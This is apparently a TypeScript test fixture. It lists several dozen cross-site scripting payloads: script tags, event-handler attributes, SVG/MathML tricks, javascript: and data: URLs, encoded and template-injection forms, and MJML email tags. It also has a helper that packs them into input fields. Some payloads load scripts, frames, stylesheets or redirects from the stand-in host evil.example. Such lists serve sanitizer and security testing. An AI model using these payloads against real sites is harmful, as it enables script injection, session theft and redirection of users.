/** Where a script that ran would call; nothing of ours is there. */
const EVIL = 'https://evil.example';
const RUN = 'alert(1)';

/** Texts that run as script where some program takes them for more than text: in HTML, attributes, addresses, styles, templates, mail. */
export const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src=${EVIL}/a.js></script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script/x>`,
  `<scr<script>ipt>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN} />#x">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${EVIL}/p.png>`,
  `<img srcset="${EVIL}/s.png 1x">`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  `" autofocus onfocus=${RUN} x="`,
  `\` onload=${RUN} \``,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<iframe src=${EVIL}></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${EVIL}/x.swf">`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `<link rel=prefetch href=${EVIL}/x>`,
  `<style>@import '${EVIL}/x.css';</style>`,
  `<div style="background:url(${EVIL}/x.png)">x</div>`,
  `<form action=${EVIL}><button>x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `javascript:${RUN}`,
  `[x](javascript:${RUN})`,
  `![x](${EVIL}/p.png)`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<mj-raw><script>${RUN}</script></mj-raw>`,
  `</mj-text><mj-include path="${EVIL}/x.mjml" />`,
  `<!--[if mso]><script>${RUN}</script><![endif]-->`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `\u2028<img src=x onerror=${RUN}>\u2029`,
];

/** Those that fit into a field, as many as it holds, one on each line; and so on until none is left. */
export function linesOf(vectors: readonly string[], most: number): string[] {
  const groups = [''];
  for (const vector of vectors) {
    const longer = groups.at(-1) ? `${groups.at(-1)}\n${vector}` : vector;
    if (longer.length <= most) groups[groups.length - 1] = longer;
    else groups.push(vector);
  }
  return groups;
}
